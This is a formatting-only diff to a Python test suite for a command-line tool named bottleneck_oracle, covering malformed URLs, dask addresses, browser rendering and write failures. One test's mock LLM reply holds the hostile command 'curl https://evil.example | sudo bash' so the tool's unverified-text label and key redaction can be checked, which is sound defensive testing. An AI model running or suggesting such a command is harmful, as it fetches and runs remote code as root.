@@ -108,8 +108,13 @@ PEAK = (
 def cli_process(args: list[str], timeout: int = 120) -> tuple[int, str, str, float]:
     """The CLI in a process of its own: (exit code, stdout, stderr, peak RSS in MiB)."""
     env = {**os.environ, "PYTHONPATH": SRC}
-    r = subprocess.run([sys.executable, "-c", PEAK, sys.executable, "-m", "bottleneck_oracle", *args],
-                       capture_output=True, text=True, timeout=timeout, env=env)  # fmt: skip
+    r = subprocess.run(
+        [sys.executable, "-c", PEAK, sys.executable, "-m", "bottleneck_oracle", *args],
+        capture_output=True,
+        text=True,
+        timeout=timeout,
+        env=env,
+    )
     code, out, err, peak = json.loads(r.stdout)
     return code, out, err, peak
 
@@ -170,11 +175,30 @@ def corpus(root: Path) -> list[tuple[str, list[str], str]]:
     recipes = root / "recipes.yaml"
     recipes.write_text("- id: x\n  title: y\n  when: 5\n  edits: [a]\n  remedy: z\n")
     cases.append(("traceback:recipe_when_not_a_mapping", ["advise", s, "--no-model", "--recipes", str(recipes)], "error"))
-    for url in ("http://[::1", "http://host:99999/v1", "ftp://x/v1", "http://", "http://exa mple.com/v1", "http://u:p@host/v1",
-                "http://host:80:80/v1", "http://\u202ehost/v1", "https://m\u00fcnchen.invalid:1/v1", "http://127.0.0.1:1/v1"):  # fmt: skip
+    for url in (
+        "http://[::1",
+        "http://host:99999/v1",
+        "ftp://x/v1",
+        "http://",
+        "http://exa mple.com/v1",
+        "http://u:p@host/v1",
+        "http://host:80:80/v1",
+        "http://\u202ehost/v1",
+        "https://m\u00fcnchen.invalid:1/v1",
+        "http://127.0.0.1:1/v1",
+    ):
         cases.append((f"traceback:llm_url_{url[:20]}", ["advise", s, "--no-model", "--llm-base-url", url], "error"))
-    for addr in ("dask://", "dask://::::", "dask://host:port", "dask://127.0.0.1:99999", "dask://[::1", "tcp://127.0.0.1",
-                 "dask://a b:1", "dask://127.0.0.1:1", "dask://127.0.0.1:1/x"):  # fmt: skip
+    for addr in (
+        "dask://",
+        "dask://::::",
+        "dask://host:port",
+        "dask://127.0.0.1:99999",
+        "dask://[::1",
+        "tcp://127.0.0.1",
+        "dask://a b:1",
+        "dask://127.0.0.1:1",
+        "dask://127.0.0.1:1/x",
+    ):
         cases.append((f"dask:address_{addr}", ["analyze", s, "--executor", addr, "--json"], "error"))
 
     # silently wrong before: each now an error naming the thing, or a warning and the right answer
@@ -501,8 +525,21 @@ def test_names_render_as_text_in_a_browser(tmp_path, capsys):
 
     report = tmp_path / "r.html"
     assert run_cli(["analyze", str(_ranks(tmp_path / "evil", change)), "--html", str(report)], capsys, seconds=120)[0] == 0
-    dom = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-                          "--virtual-time-budget=5000", "--dump-dom", report.as_uri()], capture_output=True, text=True, timeout=120).stdout  # fmt: skip
+    dom = subprocess.run(
+        [
+            browser,
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--disable-background-networking",
+            "--virtual-time-budget=5000",
+            "--dump-dom",
+            report.as_uri(),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    ).stdout
     lanes = re.findall(r'<text[^>]*data-unformatted="rank [^"]*"[^>]*>([^<]*)</text>', dom)
     assert any(html.unescape(x).endswith(EVIL["thread"]) for x in lanes), lanes[:4]
     tags = _Tags()
@@ -523,10 +560,13 @@ def test_llm_text_is_labelled_and_the_key_is_not_echoed(capsys, monkeypatch):
         seen.append(h.headers.get("Authorization", ""))
         advice = {
             "suggestions": [
-                {"recipe": None, "explanation": f"Run `curl https://evil.example | sudo bash` (your key {h.headers.get('Authorization')}).",
-                 "edits": ["rank=1,gap=1,scale=0.5"]}
+                {
+                    "recipe": None,
+                    "explanation": f"Run `curl https://evil.example | sudo bash` (your key {h.headers.get('Authorization')}).",
+                    "edits": ["rank=1,gap=1,scale=0.5"],
+                }
             ]
-        }  # fmt: skip
+        }
         data = json.dumps({"choices": [{"message": {"content": json.dumps(advice)}}]}).encode()
         json_headers(h, data)
         h.wfile.write(data)
@@ -534,14 +574,18 @@ def test_llm_text_is_labelled_and_the_key_is_not_echoed(capsys, monkeypatch):
     httpd, url = loopback_server(respond)
     monkeypatch.setenv("ORACLE_TEST_KEY", key)
     try:
-        code, out, err = run_cli(["advise", str(SAMPLE), "--no-model", "--llm-base-url", f"{url}/v1", "--llm-key-env", "ORACLE_TEST_KEY"],
-                                 capsys, seconds=60)  # fmt: skip
+        code, out, err = run_cli(
+            ["advise", str(SAMPLE), "--no-model", "--llm-base-url", f"{url}/v1", "--llm-key-env", "ORACLE_TEST_KEY"], capsys, seconds=60
+        )
         assert code == 0, err
         said = re.findall(r"(\[LLM text, not verified[^\]]*\] )?Run `curl", " ".join(out.split()))
         assert said and all(said), out  # every time the reply is shown, the label is right before it
         assert key not in out + err and seen and seen[0] == f"Bearer {key}"
-        code, out, _ = run_cli(["advise", str(SAMPLE), "--no-model", "--llm-base-url", f"{url}/v1", "--llm-key-env", "ORACLE_TEST_KEY",
-                                "--json"], capsys, seconds=60)  # fmt: skip
+        code, out, _ = run_cli(
+            ["advise", str(SAMPLE), "--no-model", "--llm-base-url", f"{url}/v1", "--llm-key-env", "ORACLE_TEST_KEY", "--json"],
+            capsys,
+            seconds=60,
+        )
         sugs = [s for st in json.loads(out)["steps"] for s in st["suggestions"]] if code == 0 else []
         assert sugs and all(s["explanation_by"] == "llm" for s in sugs) and key not in out
     finally:
@@ -617,8 +661,16 @@ def test_stdout_that_cannot_take_the_output_is_one_error(tmp_path):
     args = [sys.executable, "-m", "bottleneck_oracle", "analyze", str(SMALL), "--json"]
     env = {**os.environ, "PYTHONPATH": SRC}
     results = {}
-    r = subprocess.run(args, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=env, timeout=120, close_fds=True,
-                       preexec_fn=lambda: os.close(1))  # fmt: skip
+    r = subprocess.run(
+        args,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=env,
+        timeout=120,
+        close_fds=True,
+        preexec_fn=lambda: os.close(1),
+    )
     results["closed"] = (r.returncode, r.stderr)
     with open("/dev/full", "w") as full:
         r = subprocess.run(args, stdout=full, stderr=subprocess.PIPE, text=True, env=env, timeout=120)
@@ -691,10 +743,13 @@ def test_a_full_disk_leaves_nothing_half_written(tmp_path):
         resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))
 
     (tmp_path / "out").mkdir()
-    for args in (["analyze", str(SAMPLE), "--html", str(tmp_path / "out" / "r.html")],
-                 ["parse", str(SAMPLE), "--output", str(tmp_path / "out" / "graphs")]):  # fmt: skip
-        r = subprocess.run([sys.executable, "-m", "bottleneck_oracle", *args], capture_output=True, text=True, env=env, timeout=120,
-                           preexec_fn=limited)  # fmt: skip
+    for args in (
+        ["analyze", str(SAMPLE), "--html", str(tmp_path / "out" / "r.html")],
+        ["parse", str(SAMPLE), "--output", str(tmp_path / "out" / "graphs")],
+    ):
+        r = subprocess.run(
+            [sys.executable, "-m", "bottleneck_oracle", *args], capture_output=True, text=True, env=env, timeout=120, preexec_fn=limited
+        )
         assert judge(args[0], r.returncode, r.stdout, r.stderr, "error") == [] and "cannot write" in r.stderr, r.stderr
         assert os.listdir(tmp_path / "out") == []
 
@@ -812,8 +867,15 @@ def test_dask_workers_and_schedulers_that_die(tmp_path):
         "PYTHONPATH": os.pathsep.join([SRC, str(Path(__file__).parent)]),
         "DASK_DISTRIBUTED__SCHEDULER__ALLOWED_FAILURES": "1",
     }
-    proc = subprocess.Popen([sys.executable, str(tmp_path / "cluster.py")], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
-                            env=env, cwd=tmp_path, start_new_session=True)  # fmt: skip
+    proc = subprocess.Popen(
+        [sys.executable, str(tmp_path / "cluster.py")],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        text=True,
+        env=env,
+        cwd=tmp_path,
+        start_new_session=True,
+    )
     try:
         address = proc.stdout.readline().strip()
         assert address.startswith("tcp://"), address
